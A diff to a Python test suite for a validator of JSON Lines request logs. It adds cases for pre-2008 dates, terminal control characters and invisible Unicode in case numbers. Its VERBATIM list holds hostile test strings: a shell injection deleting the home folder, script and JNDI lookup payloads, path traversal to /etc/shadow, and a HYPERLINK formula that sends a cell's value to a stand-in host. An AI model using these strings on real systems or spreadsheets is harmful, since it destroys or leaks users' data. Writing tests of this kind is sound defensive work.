@@ -440,6 +440,117 @@ CASES: tuple[Case, ...] = (
     Case("bom_inside_text", rcv(subject="a\ufeffb"), "line 1: a byte-order mark (BOM) inside the file"),
     Case("escaped_bom_in_text", rcv(subject="a\\ufeffb").replace(b"\\\\", b"\\"), "field subject: contains a control"),
     Case("overlong_line", b'{"event": "registered", "note": "' + b"x" * (2 << 20) + b'"}\n', "line 1: longer than"),
+    # -- dates no office ever had (before the 条例 came into force on 2008-05-01) ------------------------
+    Case(
+        "receipt_in_1026",
+        rcv(date="1026-06-01"),
+        "line 1, field date: 1026-06-01 早于 2008-05-01",
+        (*RECEIVE[:3], "1026-06-01", *RECEIVE[4:]),
+    ),
+    Case(
+        "receipt_in_year_1",
+        rcv(date="0001-01-01"),
+        "line 1, field date: 0001-01-01 早于 2008-05-01",
+        (*RECEIVE[:3], "0001-01-01", *RECEIVE[4:]),
+    ),
+    Case(
+        "receipt_the_day_before_the_regulation",
+        rcv(date="2008-04-30"),
+        "line 1, field date: 2008-04-30 早于 2008-05-01",
+        (*RECEIVE[:3], "2008-04-30", *RECEIVE[4:]),
+    ),
+    Case(
+        "correction_period_before_2008",
+        j(event="correction_requested", request="B-1", date="2026-03-05", until="2001-01-01"),
+        "line 1, field until: 2001-01-01 早于 2008-05-01",
+        ("request-correction", "B-1", "--date", "2026-03-05", "--until", "2001-01-01"),
+    ),
+    Case(
+        "fee_served_before_2008",
+        j(event="fee_notified", request="B-1", date="2026-03-05", amount="100.00", served="1999-12-31"),
+        "line 1, field served: 1999-12-31 早于 2008-05-01",
+        ("notify-fee", "B-1", "--date", "2026-03-05", "--amount", "100.00", "--served", "1999-12-31"),
+    ),
+    Case(
+        "corrected_receipt_before_2008",
+        j(event="corrected", request="B-1", date="2026-03-05", reason="录错", received_date="1026-03-02"),
+        "line 1, field received_date: 1026-03-02 早于 2008-05-01",
+        ("correct", "B-1", "--date", "2026-03-05", "--reason", "录错", "--received-date", "1026-03-02"),
+    ),
+    Case(
+        "filing_for_a_month_before_2008",
+        j(event="monthly_filing_submitted", date="2026-03-01", month="2001-01"),
+        "line 1, field month: 2001-01 早于 2008-05",
+        ("file-monthly", "2001-01", "--date", "2026-03-01"),
+    ),
+    # -- control characters a terminal would obey, line breaks in names -----------------------------------
+    Case(
+        "c1_escape_in_subject",
+        rcv(subject="\u009b31m红色"),
+        "line 1, field subject: 含有控制字符 U+009B",
+        (*RECEIVE, "--subject", "\u009b31m红色"),
+    ),
+    Case(
+        "c1_next_line_in_applicant",
+        rcv(applicant="李\u0085某"),
+        "line 1, field applicant: 含有控制字符 U+0085",
+        (*RECEIVE, "--applicant", "李\u0085某"),
+    ),
+    Case(
+        "tab_in_applicant_name",
+        rcv(applicant="李\t某"),
+        "line 1, field applicant: 名称中含有制表符或换行符 U+0009",
+        (*RECEIVE, "--applicant", "李\t某"),
+    ),
+    Case(
+        "line_break_in_clerk",
+        reg(clerk="王\n芳"),
+        "line 1, field clerk: 名称中含有制表符或换行符 U+000A",
+    ),
+    Case(
+        "escape_in_agency_name",
+        j(event="agency_named", date="2026-03-05", agency_name="\u001b]0;司法局\u0007"),
+        "line 1, field agency_name: contains a control character",
+    ),
+    # -- identifiers that display as another ---------------------------------------------------------------
+    Case(
+        "right_to_left_override_in_number",
+        rcv(request="YZ-2026-\u202e1000"),
+        "line 1, field request: 含有不可见或控制字符 U+202E RIGHT-TO-LEFT OVERRIDE",
+        ("register", "YZ-2026-\u202e1000", "--date", "2026-06-01"),
+    ),
+    Case(
+        "zero_width_space_in_number",
+        rcv(request="X\u200b-1"),
+        "line 1, field request: 含有不可见或控制字符 U+200B ZERO WIDTH SPACE",
+        ("register", "X\u200b-1", "--date", "2026-06-01"),
+    ),
+    Case(
+        "bidi_isolate_in_case_number",
+        j(event="appealed", case="C\u2066-9\u2069", request="B-1", date="2026-04-01", kind="reconsideration"),
+        "line 1, field case: 含有不可见或控制字符 U+2066 LEFT-TO-RIGHT ISOLATE",
+        ("appeal", "B-1", "--date", "2026-04-01", "--case", "C\u2066-9\u2069", "--kind", "reconsideration"),
+    ),
+    Case(
+        "word_joiner_in_number",
+        rcv(request="X-\u20601"),
+        "line 1, field request: 含有不可见或控制字符 U+2060 WORD JOINER",
+    ),
+    Case(
+        "left_to_right_mark_in_agency_code",
+        reg(agency="YZ\u200eSFJ"),
+        "line 1, field agency: 含有不可见或控制字符 U+200E LEFT-TO-RIGHT MARK",
+    ),
+    Case(
+        "soft_hyphen_in_number",
+        rcv(request="X\u00ad1"),
+        "line 1, field request: 含有不可见或控制字符 U+00AD SOFT HYPHEN",
+    ),
+    Case(
+        "ideographic_space_inside_number",
+        rcv(request="X\u30001"),
+        "line 1, field request: must be non-empty, without spaces",
+    ),
     # -- not JSON Lines at all --------------------------------------------------------------------------
     Case("csv_file", b"event,request,date\nreceived,X-1,2026-06-01\n", "a CSV file, it seems"),
     Case("csv_with_bom", b"\xef\xbb\xbfevent,request,date\nreceived,X-1,2026-06-01\n", "a CSV file, it seems"),
@@ -468,6 +579,11 @@ VERBATIM = (
     "$(rm -rf ~) `id` | tee /etc/passwd && echo $HOME; exit 1",
     "<script>alert(1)</script> %s %n {0} ${jndi:ldap://x}",
     "..\\..\\windows\\system32 ../../etc/shadow",
+    '=HYPERLINK("http://example.invalid/?q="&B2, "点击查看")',  # a spreadsheet formula: text everywhere
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "#N/A",
 )
 
 
